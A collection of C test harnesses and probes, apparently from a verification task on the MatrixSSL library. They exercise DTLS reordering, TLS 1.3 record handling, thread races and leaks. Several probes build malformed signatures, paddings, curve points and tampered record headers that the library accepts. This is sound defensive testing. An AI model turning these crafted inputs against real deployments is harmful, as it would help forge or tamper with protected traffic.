    g_held.d = NULL;
    memset(g_flightSizes, 0, sizeof(g_flightSizes));

    memset(&opts, 0, sizeof(opts));
    opts.versionFlag = versionFlag;
    if (matrixSslNewServerSession(&svr.ssl, g_svrKeys, NULL, &opts) < 0)
    {
        printf("    NewServerSession failed\n");
        return -1;
    }
    memset(&opts, 0, sizeof(opts));
    opts.versionFlag = versionFlag;
    if (matrixSslNewClientSession(&cln.ssl, g_clnKeys, NULL, &cipher, 1,
            certCb, NULL, NULL, NULL, &opts) < 0)
    {
        printf("    NewClientSession failed\n");
        matrixSslDeleteSession(svr.ssl);
        return -1;
    }
    cln.wantSend = 1; /* ClientHello is waiting */

    for (round = 0; round < MAX_ROUNDS; round++)
    {
        if (matrixSslHandshakeIsComplete(cln.ssl) &&
            matrixSslHandshakeIsComplete(svr.ssl) &&
            !cln.wantSend && !svr.wantSend)
        {
            break;
        }
        if (cln.failed && svr.failed)
        {
            break;
        }
        /* If nobody has anything to say: retransmit timers fire on both */
        idle = (!cln.wantSend && !svr.wantSend);

        if ((cln.wantSend || idle) && !cln.failed)
        {
            n = collect(&cln, dg);
            if (n > 0)
            {
                deliverHeld(&svr, 1);
                perturb(dg, &n, 1);
                g_flightNo++;
                if (g_verbose)
                {
                    printf("    c->s flight of %d datagrams%s\n", n,
                        idle ? " (timeout)" : "");
                }
                for (i = 0; i < n; i++)
                {
                    deliver(&svr, &dg[i]);
                }
                freeDgrams(dg, n);
            }
        }
        if ((svr.wantSend || idle) && !svr.failed)
        {
            n = collect(&svr, dg);
            if (n > 0)
            {
                deliverHeld(&cln, 0);
                perturb(dg, &n, 0);
                g_flightNo++;
                if (g_verbose)
                {
                    printf("    s->c flight of %d datagrams%s\n", n,
                        idle ? " (timeout)" : "");
                }
                for (i = 0; i < n; i++)
                {
                    deliver(&cln, &dg[i]);
                }
                freeDgrams(dg, n);
            }
        }
        if (svr.failed && !svr.wantSend && cln.failed)
        {
            break;
        }
    }

    if (cln.failed || svr.failed)
    {
        printf("    handshake aborted (client %s, server %s)\n",
            cln.failed ? "FAILED" : "ok", svr.failed ? "FAILED" : "ok");
        goto out;
    }
    if (!matrixSslHandshakeIsComplete(cln.ssl) ||
        !matrixSslHandshakeIsComplete(svr.ssl))
    {
        printf("    handshake did not complete within %d rounds of "
            "retransmission\n", MAX_ROUNDS);
        goto out;
    }
    /* a duplicate still in the network arrives after the handshake */
    deliverHeld(&svr, 1);
    deliverHeld(&cln, 0);
    if (cln.failed || svr.failed)
    {
        printf("    late duplicate broke the established connection\n");
        goto out;
    }
    if (sendApp(&cln, &svr, "ping from client") < 0)
    {
        goto out;
    }
    if (sendApp(&svr, &cln, "pong from server") < 0)
    {
        goto out;
    }
    rc = 0;
out:
    matrixSslDeleteSession(cln.ssl);
    matrixSslDeleteSession(svr.ssl);
    return rc;
}

static const char *kindName(int k)
{
    switch (k)
    {
    case PERT_NONE: return "in-order delivery";
    case PERT_SWAP: return "swap adjacent datagrams";
    case PERT_REVERSE_FRAGS: return "reverse the fragments of a fragmented message";
    case PERT_REVERSE_ALL: return "reverse whole flight";
    case PERT_DUP_NOW: return "duplicate datagram k, copy arrives right behind it";
    case PERT_DUP_LATE: return "duplicate datagram k, copy arrives before the next flight";
    case PERT_DELAY: return "delay datagram k until just before the next flight in its direction";
    }
    return "?";
}

int main(int argc, char **argv)
{
    static const struct
    {
        uint32 flag;
        const char *name;
    } versions[] = {
        { SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS, "DTLS 1.2" },
        { SSL_FLAGS_TLS_1_1 | SSL_FLAGS_DTLS, "DTLS 1.0" },
    };
    /* RSA key transport suites only: with the 2048-bit test key the signed
       ServerKeyExchange of the ECDHE suites does not fit the small path MTUs
       used here (library limitation unrelated to this property). */
    static const struct
    {
        psCipher16_t id;
        const char *name;
        int tls12only;
    } ciphers[] = {
        { TLS_ECDHE_RSA_WITH_AES_128_CBC_SHA, "TLS_ECDHE_RSA_WITH_AES_128_CBC_SHA", 0 },
        { TLS_ECDHE_RSA_WITH_AES_128_CBC_SHA, "TLS_ECDHE_RSA_WITH_AES_128_CBC_SHA", 0 },
        { TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256, "TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256", 1 },
    };
    static const int pmtus[] = { 520, 520 };
    int v, c, m, f, k, kind, nflights, baseSizes[256];
    int runs = 0, bad = 0;

    g_verbose = (argc > 1 && strcmp(argv[1], "-v") == 0);
    setvbuf(stdout, NULL, _IONBF, 0);

    if (matrixSslOpen() < 0)
    {
        printf("matrixSslOpen failed\n");
        return 2;
    }
    if (matrixSslNewKeys(&g_svrKeys, NULL) < 0 ||
        matrixSslNewKeys(&g_clnKeys, NULL) < 0)
    {
        return 2;
    }
    if (matrixSslLoadRsaKeysMem(g_svrKeys, RSA2048, sizeof(RSA2048),
            RSA2048KEY, RSA2048KEY_SIZE, NULL, 0) < 0)
    {
        printf("server key load failed\n");
        return 2;
    }
    if (matrixSslLoadRsaKeysMem(g_clnKeys, NULL, 0, NULL, 0,
            RSA2048CA, sizeof(RSA2048CA)) < 0)
    {
        printf("client CA load failed\n");
        return 2;
    }

    for (m = 0; m < (int) (sizeof(pmtus) / sizeof(pmtus[0])); m++)
    {
        matrixDtlsSetPmtu(pmtus[m]);
        for (v = 0; v < 2; v++)
        {
            for (c = 0; c < 3; c++)
            {
                if (ciphers[c].tls12only && v != 0)
                {
                    continue;
                }
                printf("%s %s pmtu=%d\n", versions[v].name, ciphers[c].name,
                    matrixDtlsGetPmtu());

                /* Baseline: nothing reordered.  Must pass with and without
                   the seeded change, and tells us the flight shapes. */
                g_pertKind = PERT_NONE;
                g_pertFlight = -1;
                runs++;
                if (runOne(versions[v].flag, ciphers[c].id) < 0)
                {
                    printf("  FAIL: baseline in-order handshake broke\n");
                    bad++;
                    continue;
                }
                nflights = g_flightNo;
                memcpy(baseSizes, g_flightSizes, sizeof(baseSizes));
                printf("  baseline ok, %d flights, sizes:", nflights);
                for (f = 0; f < nflights; f++)
                {
                    printf(" %d", baseSizes[f]);
                }
                printf("\n");

                for (f = 0; f < nflights; f++)
                {
                    for (kind = PERT_SWAP; kind <= PERT_LAST; kind++)
                    {
                        int kmax = 1;

                        if (kind == PERT_SWAP)
                        {
                            kmax = baseSizes[f] - 1;
                        }
                        else if (kind >= PERT_DUP_NOW)
                        {
                            kmax = baseSizes[f];
                        }
                        for (k = 0; k < kmax; k++)
                        {
                            g_pertKind = kind;
                            g_pertFlight = f;
                            g_pertK = k;
                            if (g_verbose)
                            {
                                printf("  schedule: flight %d, %s, k=%d\n",
                                    f, kindName(kind), k);
                            }
                            if (runOne(versions[v].flag, ciphers[c].id) < 0)
                            {
                                printf("  FAIL: flight #%d (%d datagrams): %s"
                                    " (k=%d) -> handshake/data exchange did "
                                    "not survive this schedule\n", f,
                                    baseSizes[f], kindName(kind), k);
                                bad++;
                            }
                            if (g_pertApplied)
                            {
                                runs++;
                            }
                        }
                    }
                }
            }
        }
    }

    matrixSslDeleteKeys(g_svrKeys);
    matrixSslDeleteKeys(g_clnKeys);
    matrixSslClose();

    printf("%d delivery schedules run, %d violated the property\n", runs,
        bad);
    if (bad)
    {
        printf("C16 VIOLATED: DTLS handshake does not survive datagram "
            "reordering/duplication\n");
        return 1;
    }
    printf("C16 held: all perturbed handshakes completed and exchanged "
        "data exactly once\n");
    return 0;
}
