/*
 * Side probes against the UNMODIFIED library (see NOTES.md, "Side
 * observations").  Each probe prints what it saw; the exit status is the
 * number of probes that showed a deviation from the C11 statement.
 */
#include <stdio.h>
#include <string.h>
#include "crypto/cryptoApi.h"
#include "testkeys/RSA/2048_RSA_KEY.h"

static int probe_ecdsa_zero_digest(void)
{
    /* A digest that is 0 mod n makes u1 = 0; eccMulmod(0, G) returns G
       instead of the point at infinity, so a valid signature is refused. */
    const psEccCurve_t *curve;
    psEccKey_t k;
    unsigned char digest[32], sig[160];
    psSize_t sigLen = sizeof(sig);
    int32_t status = 0, rc;
    int dev = 0;

    getEccParamById(IANA_SECP256R1, &curve);
    if (psEccGenKey(NULL, &k, curve, NULL) < 0)
    {
        return 0;
    }
    memset(digest, 0, sizeof(digest));
    rc = psEccDsaSign(NULL, &k, digest, sizeof(digest), sig, &sigLen, 0, NULL);
    if (rc < 0)
    {
        printf("[ecdsa-zero] sign rc=%d\n", rc);
        psEccClearKey(&k);
        return 0;
    }
    rc = psEccDsaVerify(NULL, &k, digest, sizeof(digest), sig, sigLen,
            &status, NULL);
    printf("[ecdsa-zero] library's own signature over the all-zero digest: "
        "verify rc=%d status=%d%s\n", rc, status,
        (status != 1) ? "  <-- valid signature refused" : "");
    dev |= (status != 1);

    /* control: digest 00..01 */
    digest[31] = 1;
    sigLen = sizeof(sig);
    psEccDsaSign(NULL, &k, digest, sizeof(digest), sig, &sigLen, 0, NULL);
    status = 0;
    rc = psEccDsaVerify(NULL, &k, digest, sizeof(digest), sig, sigLen,
            &status, NULL);
    printf("[ecdsa-zero] control digest 00..01: verify rc=%d status=%d\n",
        rc, status);
    psEccClearKey(&k);
    return dev;
}

static int probe_ecdsa_trailing(void)
{
    /* Bytes after the DER SEQUENCE (over-long input) are ignored. */
    const psEccCurve_t *curve;
    psEccKey_t k;
    unsigned char digest[32], sig[200];
    psSize_t sigLen = 160;
    int32_t status = 0, rc;

    getEccParamById(IANA_SECP256R1, &curve);
    if (psEccGenKey(NULL, &k, curve, NULL) < 0)
    {
        return 0;
    }
    memset(digest, 0x5a, sizeof(digest));
    if (psEccDsaSign(NULL, &k, digest, sizeof(digest), sig, &sigLen, 0,
            NULL) < 0)
    {
        psEccClearKey(&k);
        return 0;
    }
    memset(sig + sigLen, 0xEE, 7);
    rc = psEccDsaVerify(NULL, &k, digest, sizeof(digest), sig, sigLen + 7,
            &status, NULL);
    printf("[ecdsa-trailing] signature || 7 junk bytes: verify rc=%d "
        "status=%d%s\n", rc, status,
        (status == 1) ? "  <-- over-long input accepted" : "");
    psEccClearKey(&k);
    return status == 1;
}

static int probe_pss_length(void)
{
    /* psRsaPssVerify never compares sigLen with the modulus length. */
    psPubKey_t key;
    unsigned char digest[32], em[256], sig[300];
    psSize_t emLen = sizeof(em), sigLen = 256;
    psVerifyOptions_t opts;
    psBool_t ok = PS_FALSE;
    psRes_t rc;
    int dev = 0;

    memset(&key, 0, sizeof(key));
    key.type = PS_RSA;
    if (psRsaParsePkcs1PrivKey(NULL, RSA2048KEY, RSA2048KEY_SIZE,
            &key.key.rsa) < 0)
    {
        return 0;
    }
    key.keysize = psRsaSize(&key.key.rsa);
    memset(digest, 0x11, sizeof(digest));
    if (psPkcs1PssEncode(NULL, digest, 32, NULL, 32, PKCS1_SHA256_ID, 2048,
            em, &emLen) < 0)
    {
        return 0;
    }
    if (psRsaCrypt(NULL, &key.key.rsa, em, 256, sig + 3, &sigLen, PS_PRIVKEY,
            NULL) < 0)
    {
        return 0;
    }
    sig[0] = sig[1] = sig[2] = 0; /* 00 00 00 || signature: 259 bytes */
    memset(&opts, 0, sizeof(opts));
    opts.useRsaPss = PS_TRUE;
    opts.rsaPssHashAlg = PKCS1_SHA256_ID;
    opts.rsaPssHashLen = 32;
    opts.rsaPssSaltLen = 32;
    rc = psVerifySig(NULL, digest, 32, sig, 259, &key, OID_SHA256_RSA_SIG,
            &ok, &opts);
    printf("[pss-length] 259-byte input (000000 || sig) for a 256-byte "
        "modulus: rc=%d ok=%d%s\n", rc, ok,
        (rc == PS_SUCCESS && ok) ? "  <-- over-long input accepted" : "");
    dev |= (rc == PS_SUCCESS && ok);
    psRsaClearKey(&key.key.rsa);
    return dev;
}

static int probe_unpad7(void)
{
    /* Encryption block (type 2) with only 7 padding bytes: PKCS#1 demands
       at least 8. */
    unsigned char eb[58], out[48];
    int32_t rc;

    memset(eb, 0xA5, sizeof(eb));
    eb[0] = 0x00;
    eb[1] = 0x02;
    eb[9] = 0x00;           /* 7 non-zero padding bytes: eb[2..8] */
    rc = pkcs1Unpad(eb, sizeof(eb), out, sizeof(out), PS_PRIVKEY);
    printf("[unpad7] 00 02 || 7 pad bytes || 00 || 48 data bytes: rc=%d%s\n",
        rc, rc == PS_SUCCESS ? "  <-- short padding accepted" : "");
    return rc == PS_SUCCESS;
}

static int probe_noncanonical_point(void)
{
    /* Coordinates are not required to be < p: for P-521 (66-byte
       coordinates, 521-bit p) x + p still fits and passes the curve test. */
    const psEccCurve_t *curve;
    psEccKey_t k;
    pstm_int x, y, p;
    unsigned char pt[133];
    int32_t rc;

    getEccParamById(IANA_SECP521R1, &curve);
    if (pstm_init_for_read_unsigned_bin(NULL, &x, 68) < 0 ||
        pstm_init_for_read_unsigned_bin(NULL, &y, 68) < 0 ||
        pstm_init_for_read_unsigned_bin(NULL, &p, 68) < 0)
    {
        return 0;
    }
    pstm_read_radix(NULL, &x, curve->Gx, curve->size * 2, 16);
    pstm_read_radix(NULL, &y, curve->Gy, curve->size * 2, 16);
    pstm_read_radix(NULL, &p, curve->prime, curve->size * 2, 16);
    pstm_add(&x, &p, &x);       /* x' = Gx + p  (>= p, < 2^528) */
    memset(pt, 0, sizeof(pt));
    pt[0] = 0x04;
    pstm_to_unsigned_bin(NULL, &x, pt + 1 + (66 - pstm_unsigned_bin_size(&x)));
    pstm_to_unsigned_bin(NULL, &y, pt + 67 + (66 - pstm_unsigned_bin_size(&y)));
    memset(&k, 0, sizeof(k));
    rc = psEccX963ImportKey(NULL, pt, sizeof(pt), &k, curve);
    printf("[point>=p] P-521 point (Gx + p, Gy), first byte of x = 0x%02x: "
        "import rc=%d%s\n", pt[1], rc,
        rc == PS_SUCCESS ? "  <-- coordinate >= p accepted" : "");
    if (rc == PS_SUCCESS)
    {
        psEccClearKey(&k);
    }
    pstm_clear(&x); pstm_clear(&y); pstm_clear(&p);
    return rc == PS_SUCCESS;
}

int main(void)
{
    int n = 0;

    psCryptoOpen(PSCRYPTO_CONFIG);
    n += probe_ecdsa_zero_digest();
    n += probe_ecdsa_trailing();
    n += probe_pss_length();
    n += probe_unpad7();
    n += probe_noncanonical_point();
    printf("%d probe(s) showed a deviation\n", n);
    return n;
}
