/* Side probe: does RSA PKCS#1 v1.5 verification destroy the caller's
   signature buffer, so that the same valid certificate cannot be
   authenticated a second time? */
#include <stdio.h>
#include <string.h>
#include "crypto/cryptoApi.h"
#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_CA.h"

int main(void)
{
    psX509Cert_t *leaf = NULL, *ca = NULL, *found = NULL;
    unsigned char sigCopy[512];
    int32 rc1, rc2;

    psCryptoOpen(PSCRYPTO_CONFIG);
    if (psX509ParseCert(NULL, RSA2048, RSA2048_SIZE, &leaf, CERT_STORE_UNPARSED_BUFFER) < 0 ||
        psX509ParseCert(NULL, RSA2048CA, RSA2048CA_SIZE, &ca, CERT_STORE_UNPARSED_BUFFER) < 0)
    {
        printf("parse failed\n");
        return 2;
    }
    memcpy(sigCopy, leaf->signature, leaf->signatureLen);
    rc1 = psX509AuthenticateCert(NULL, leaf, ca, &found, NULL, NULL);
    printf("first authenticate: rc=%d authStatus=%d sig buffer %s\n", rc1, leaf->authStatus,
        memcmp(sigCopy, leaf->signature, leaf->signatureLen) ? "CHANGED" : "unchanged");
    rc2 = psX509AuthenticateCert(NULL, leaf, ca, &found, NULL, NULL);
    printf("second authenticate: rc=%d authStatus=%d\n", rc2, leaf->authStatus);
    if (rc1 == 0 && rc2 != 0)
    {
        printf("VIOLATION: same valid cert/signature refused on second verification\n");
        return 1;
    }
    return 0;
}
