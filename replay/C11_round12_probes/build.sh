#!/bin/sh
# usage: sh build.sh /path/to/worktree   (builds probe_reverify and probe_misc next to this script)
set -e
R=${1:-/tmp/seed12_C11}
D=$(cd "$(dirname "$0")" && pwd)
for p in probe_reverify probe_misc; do
  cc -g -O0 -I"$R" -I"$R/core/config" -I"$R/core/include" -I"$R/core/osdep/include" \
     -I"$R/core/include/sfzcl" -o "$D/$p" "$D/$p.c" \
     "$R/matrixssl/libssl_s.a" "$R/crypto/libcrypt_s.a" "$R/core/libcore_s.a" -lpthread
done
