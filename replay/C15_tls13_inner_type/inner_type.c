#include "harness.h"
#include "matrixssl/matrixssllib.h"
/* C15 / C06: a correctly protected TLS 1.3 record whose inner content type is none of handshake / application_data / alert
   (here 24, and 20 = change_cipher_spec inside protection).  RFC 8446 5.1: unexpected_message.  matrixSslDecodeTls13 falls
   through its `if (innerType == ..)` chain to `return MATRIXSSL_SUCCESS`: no alert, session not flagged, next record delivered.
   The record is sealed with the client's own write state through the cipher callback (technique of the sub-agent's probe). */
static int raw13(ssl_t *ssl, const unsigned char *inner, uint32 innerLen, unsigned char *rec)
{
    rec[0] = 0x17; rec[1] = 3; rec[2] = 3; rec[3] = (unsigned char) ((innerLen + 16) >> 8); rec[4] = (unsigned char) ((innerLen + 16) & 0xff);
    memcpy(rec + 5, inner, innerLen);
    ssl->outRecType = 0x17; ssl->outRecLen = innerLen + 16;
    if (ssl->encrypt(ssl, rec + 5, rec + 5, innerLen) < 0) return -1;
    return 5 + innerLen + 16;
}
int main(void)
{
    hPeer c = {0}, s = {0};
    static unsigned char rec[256], wire[4096];
    unsigned char bad24[] = { 0xde, 0xad, 0xbe, 0xef, 0x18 }, bad20[] = { 0x01, 0x14 };
    int n, rc, viol = 0;
    if (h_new_server(&s, SSL_FLAGS_TLS_1_3) < 0 || h_new_client(&c, SSL_FLAGS_TLS_1_3, NULL, 0, h_certCbAllowAll) < 0) return 2;
    if (h_handshake(&c, &s)) return 2;
    n = raw13(c.ssl, bad24, sizeof(bad24), rec); rc = h_feed(&s, rec, n);
    printf("protected record, inner type 24: rc=%d flags&ERROR=%d pending output=%d\n", rc, !!(s.ssl->flags & SSL_FLAGS_ERROR), matrixSslGetOutdata(s.ssl, NULL));
    if (rc >= 0 && !(s.ssl->flags & SSL_FLAGS_ERROR)) viol++;
    n = raw13(c.ssl, bad20, sizeof(bad20), rec); rc = h_feed(&s, rec, n);
    printf("protected record, inner type 20: rc=%d flags&ERROR=%d\n", rc, !!(s.ssl->flags & SSL_FLAGS_ERROR));
    n = h_send_app(&c, (unsigned char *) "still alive?", 12, wire, sizeof(wire)); s.appLen = 0; rc = h_feed(&s, wire, n);
    printf("next application record: rc=%d delivered=%d bytes\n", rc, s.appLen);
    if (s.appLen > 0) viol++;
    printf("RESULT %s\n", viol ? "VIOLATED (illegal inner content type accepted silently, session lives on)" : "ok (unexpected_message, session dead)");
    return viol ? 1 : 0;
}
