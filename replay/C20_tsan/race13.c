#include <pthread.h>
#include "harness.h"
#include "matrixssl/matrixssllib.h"
/* C20.R1 finding (F7): TLS 1.3 ticket paths (tls13NewTicket, tls13FindSessionPsk, tls13DecryptTicket, ...) read the shared
   ticket-key list keys->sessTickets without g_sessTicketLock while another thread rotates ticket keys.
   Run under ThreadSanitizer: a report naming those functions = the race. SHARE_CA=1 additionally shares the
   client-side key set (CA list) between the client threads. */
static sslKeys_t *g_srv;
static sslKeys_t *g_cliShared;
static int g_stop_unused; static _Atomic int g_stop;
static unsigned char K1[16] = "key-one-key-one", K2[16] = "key-two-key-two", SYM[32] = {1}, MAC[32] = {2};
static int g_shareCa;

static int one(hPeer *c, hPeer *s)
{
    static __thread unsigned char w[1 << 16];
    c->ssl = s->ssl = NULL; c->hsDone = s->hsDone = c->closed = s->closed = 0;
    s->keys = g_srv;
    if (h_new_server(s, SSL_FLAGS_TLS_1_3) < 0) return -1;
    if (h_new_client(c, SSL_FLAGS_TLS_1_3, NULL, 0, h_certCbAllowAll) < 0) return -1;
    int rc = h_handshake(c, s); if (rc) { static int once; if (!once++) fprintf(stderr, "handshake rc=%d c.lastRc=%d s.lastRc=%d cerr=%d serr=%d\n", rc, c->lastRc, s->lastRc, c->ssl->err, s->ssl->err); }
    int n = h_drain(s, w, sizeof(w)); if (n > 0) h_feed(c, w, n);
    int res = matrixSslIsResumedSession(s->ssl);
    matrixSslDeleteSession(c->ssl); matrixSslDeleteSession(s->ssl);
    return rc ? -1 : res;
}
static void *worker(void *arg)
{
    hPeer c = {0}, s = {0};
    if (g_shareCa) c.keys = g_cliShared; else h_client_keys(&c);
    matrixSslNewSessionId(&c.sid, NULL);
    int i, resumed = 0, full = 0;
    for (i = 0; i < 40; i++) { int r = one(&c, &s); if (r == 1) resumed++; else if (r == 0) full++; }
    printf("worker: resumed=%d full=%d\n", resumed, full);
    return NULL;
}
static void *rotator(void *arg)
{
    while (!g_stop)
    {
        /* rotate: the list head (the key new tickets are issued under) changes */
        matrixSslLoadSessionTicketKeys(g_srv, K2, SYM, 32, MAC, 32);
        matrixSslDeleteSessionTicketKey(g_srv, K1);
        matrixSslLoadSessionTicketKeys(g_srv, K1, SYM, 32, MAC, 32);
        matrixSslDeleteSessionTicketKey(g_srv, K2);
    }
    return NULL;
}
int main(int argc, char **argv)
{
    pthread_t t[3], r; int i; hPeer s = {0}, c = {0};
    g_shareCa = argc > 1;
    h_server_keys(&s); g_srv = s.keys; h_client_keys(&c); g_cliShared = c.keys;
    matrixSslLoadSessionTicketKeys(g_srv, K1, SYM, 32, MAC, 32);
    pthread_create(&r, NULL, rotator, NULL);
    for (i = 0; i < 3; i++) pthread_create(&t[i], NULL, worker, NULL);
    for (i = 0; i < 3; i++) pthread_join(t[i], NULL);
    g_stop = 1; pthread_join(r, NULL);
    return 0;
}
