#!/bin/sh
# Builds ThreadSanitizer-instrumented copies of the three static libraries of $1 (default /repo) under /tmp/tsan_tree
# and links the given demo against them.  Triage tooling only.
set -e
R=${1:-/repo}; D=${2:-race13.c}
T=/tmp/tsan_tree
rm -rf $T; mkdir -p $T
(cd $R && tar cf - --exclude='*.o' --exclude='*.a' --exclude='*.map' --exclude=.git Makefile common.mk makefiles core crypto matrixssl configs testkeys) | (cd $T && tar xf -)
make -C $T libs CC=clang CFLAGS_EXTRA="-fsanitize=thread -g -fno-omit-frame-pointer" > /tmp/tsan_build.log 2>&1 || { tail -20 /tmp/tsan_build.log; exit 1; }
clang -fsanitize=thread -g -O1 -I/verif/replay -I$T -I$T/core/config -I$T/core/include -I$T/core/osdep/include -I$T/core/include/sfzcl \
  -o /tmp/$(basename $D .c)_tsan $D $T/matrixssl/libssl_s.a $T/crypto/libcrypt_s.a $T/core/libcore_s.a -lpthread -w
echo /tmp/$(basename $D .c)_tsan
