/* C19 "nothing leaked once the application deletes its objects": single allocation failure at every allocation of
   matrixSslLoadRsaKeysMem (identity certificate + key + CA), then matrixSslDeleteKeys; blocks allocated inside the window
   and still live afterwards are leaks.
   build: cc -o /tmp/leak leak.c -Wl,--wrap=malloc,--wrap=calloc,--wrap=realloc,--wrap=free <includes/libs as replay/build.sh> */
#include "harness.h"
extern void *__real_malloc(size_t); extern void *__real_calloc(size_t, size_t); extern void *__real_realloc(void *, size_t); extern void __real_free(void *);
#define MAXB 200000
static void *g_live[MAXB]; static size_t g_sz[MAXB]; static long g_id[MAXB]; static int g_nlive;
static long g_n, g_fail = -1; static int g_armed;
static void add(void *p, size_t s) { if (p && g_armed && g_nlive < MAXB) { g_live[g_nlive] = p; g_sz[g_nlive] = s; g_id[g_nlive] = g_n; g_nlive++; } }
static void del(void *p) { int i; for (i = g_nlive - 1; i >= 0; i--) if (g_live[i] == p) { g_live[i] = g_live[g_nlive - 1]; g_sz[i] = g_sz[g_nlive - 1]; g_id[i] = g_id[g_nlive - 1]; g_nlive--; return; } }
static int hit(void) { if (!g_armed) return 0; g_n++; return g_n == g_fail; }
void *__wrap_malloc(size_t s) { void *p; if (hit()) return NULL; p = __real_malloc(s); add(p, s); return p; }
void *__wrap_calloc(size_t a, size_t b) { void *p; if (hit()) return NULL; p = __real_calloc(a, b); add(p, a * b); return p; }
void *__wrap_realloc(void *q, size_t s) { void *p; if (hit()) return NULL; p = __real_realloc(q, s); if (p) { del(q); add(p, s); } return p; }
void __wrap_free(void *p) { if (p) del(p); __real_free(p); }
static int once(long k, int verbose)
{
    sslKeys_t *keys = NULL; int32 rc; int i, leaked = 0; size_t bytes = 0;
    g_n = 0; g_fail = k; g_nlive = 0; g_armed = 1;
    if (matrixSslNewKeys(&keys, NULL) >= 0)
    {
        rc = matrixSslLoadRsaKeysMem(keys, RSA2048, sizeof(RSA2048), RSA2048KEY, sizeof(RSA2048KEY), RSA2048CA, sizeof(RSA2048CA));
        matrixSslDeleteKeys(keys);
    }
    else rc = -1;
    g_armed = 0;
    for (i = 0; i < g_nlive; i++) { leaked++; bytes += g_sz[i]; }
    if (leaked && verbose)
        printf("  allocation #%ld failed (load rc=%d): %d block(s), %zu bytes still live after matrixSslDeleteKeys (first is allocation #%ld, %zu bytes)\n",
            k, rc, leaked, bytes, g_id[0], g_sz[0]);
    return leaked;
}
int main(void)
{
    long n, k; int bad = 0;
    h_open();
    once(-1, 0); n = g_n;
    printf("clean load + delete: %ld allocations, %d live afterwards\n", n, g_nlive);
    for (k = 1; k <= n; k++) if (once(k, 1)) bad++;
    printf("RESULT %s (%d of %ld single-failure runs leak)\n", bad ? "VIOLATED" : "ok", bad, n);
    return bad ? 1 : 0;
}
