/*
    Side observation probe (independent of the seeded change).

    TLS 1.3 draft 22/23/24 are compiled in (v_tls_1_3_any) but are not in
    v_tls_1_3_aad: their records are protected WITHOUT additional data, so
    the 5 byte outer record header is not authenticated. This probe
    negotiates a draft version between an in-memory client and server, flips
    bits in the outer header (opaque_type, legacy_record_version) of a
    protected application data record and reports whether the receiver still
    delivers the data.

    usage: probe_tls13_draft_noaad [22|23|24|26|28|0]   (0 = TLS 1.3 final)
    exit 1: a record with a modified header was accepted, 0: rejected,
    2: could not set the scenario up.
*/
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "matrixssl/matrixsslApi.h"

#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA_CA.h"

#define BUFSZ 20000

static sslKeys_t *g_svrKeys, *g_clnKeys;

static int32_t certCb(ssl_t *ssl, psX509Cert_t *cert, int32_t alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0;
}

static int take(ssl_t *from, unsigned char *out)
{
    unsigned char *p;
    int32 len = matrixSslGetOutdata(from, &p);

    if (len <= 0)
    {
        return 0;
    }
    if (len > BUFSZ)
    {
        exit(2);
    }
    memcpy(out, p, len);
    matrixSslSentData(from, len);
    return len;
}

static int32 give(ssl_t *to, const unsigned char *in, int len,
    unsigned char *got, int *gotLen)
{
    unsigned char *rb, *pt;
    uint32 ptLen;
    int32 rc;

    if (matrixSslGetReadbufOfSize(to, len, &rb) < len)
    {
        exit(2);
    }
    memcpy(rb, in, len);
    rc = matrixSslReceivedData(to, len, &pt, &ptLen);
    while (rc == MATRIXSSL_APP_DATA || rc == MATRIXSSL_RECEIVED_ALERT)
    {
        if (rc == MATRIXSSL_APP_DATA && got)
        {
            memcpy(got + *gotLen, pt, ptLen);
            *gotLen += ptLen;
        }
        rc = matrixSslProcessedData(to, &pt, &ptLen);
    }
    return rc;
}

static int pair(psProtocolVersion_t ver, ssl_t **cln, ssl_t **svr)
{
    sslSessOpts_t opts;
    psCipher16_t suite = TLS_AES_128_GCM_SHA256;
    unsigned char buf[BUFSZ];
    ssl_t *s, *r, *t;
    int len, i;
    int32 rc;

    memset(&opts, 0, sizeof(opts));
    if (matrixSslSessOptsSetClientTlsVersions(&opts, &ver, 1) < 0)
    {
        fprintf(stderr, "client versions\n");
        return -1;
    }
    if (matrixSslNewClientSession(cln, g_clnKeys, NULL, &suite, 1, certCb,
            NULL, NULL, NULL, &opts) < 0)
    {
        fprintf(stderr, "client session\n");
        return -1;
    }
    memset(&opts, 0, sizeof(opts));
    if (matrixSslSessOptsSetServerTlsVersions(&opts, &ver, 1) < 0)
    {
        fprintf(stderr, "server versions\n");
        return -1;
    }
    if (matrixSslNewServerSession(svr, g_svrKeys, NULL, &opts) < 0)
    {
        fprintf(stderr, "server session\n");
        return -1;
    }
    s = *cln; r = *svr;
    for (i = 0; i < 20; i++)
    {
        len = take(s, buf);
        if (len == 0)
        {
            break;
        }
        rc = give(r, buf, len, NULL, NULL);
        if (rc < 0)
        {
            fprintf(stderr, "handshake rc=%d\n", (int) rc);
            return -1;
        }
        t = s; s = r; r = t;
    }
    /* flush post-handshake messages (NewSessionTicket) to the client */
    while ((len = take(*svr, buf)) > 0)
    {
        if (give(*cln, buf, len, NULL, NULL) < 0)
        {
            return -1;
        }
    }
    if (!matrixSslHandshakeIsComplete(*cln) ||
        !matrixSslHandshakeIsComplete(*svr))
    {
        fprintf(stderr, "handshake incomplete\n");
        return -1;
    }
    return 0;
}

static int attempt(psProtocolVersion_t verFlag, const char *what, int off, unsigned char x)
{
    ssl_t *cln = NULL, *svr = NULL;
    unsigned char rec[BUFSZ], got[256], *wb;
    const char *msg = "hello-over-tls13";
    int len, gotLen = 0, bad = 0;
    int32 rc;

    if (pair(verFlag, &cln, &svr) < 0)
    {
        exit(2);
    }
    if (matrixSslGetWritebuf(cln, &wb, strlen(msg)) < (int32) strlen(msg))
    {
        exit(2);
    }
    memcpy(wb, msg, strlen(msg));
    if (matrixSslEncodeWritebuf(cln, strlen(msg)) < 0)
    {
        exit(2);
    }
    len = take(cln, rec);
    rec[off] ^= x;
    rc = give(svr, rec, len, got, &gotLen);
    if (gotLen > 0)
    {
        printf("   %-34s ACCEPTED, application received \"%.*s\"\n", what,
            gotLen, got);
        bad = 1;
    }
    else
    {
        printf("   %-34s rejected (rc=%d)\n", what, (int) rc);
    }
    matrixSslDeleteSession(cln);
    matrixSslDeleteSession(svr);
    return bad;
}

int main(int argc, char **argv)
{
    int d = argc > 1 ? atoi(argv[1]) : 23, bad = 0;
    psProtocolVersion_t flag;

    switch (d)
    {
